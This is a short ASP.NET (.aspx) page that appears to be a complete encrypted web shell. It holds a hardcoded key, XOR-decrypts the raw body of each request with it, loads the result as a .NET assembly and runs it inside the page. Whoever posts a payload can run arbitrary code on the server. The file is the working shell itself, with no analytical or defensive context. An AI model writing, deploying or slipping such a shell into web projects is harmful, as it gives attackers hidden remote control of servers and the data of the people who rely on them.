<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<%
    Session.Add("k", "e45e329feb5d925b");
    byte[] k = Encoding.Default.GetBytes(Session[0] + "");
    byte[] c = Request.BinaryRead(Request.ContentLength);
    for (int i = 0; i < c.Length; i++)
    {
        c[i] = (byte)(c[i] ^ k[(i + 1) & 15]);
    }
    Assembly.Load(c).CreateInstance("U").Equals(this);
%>
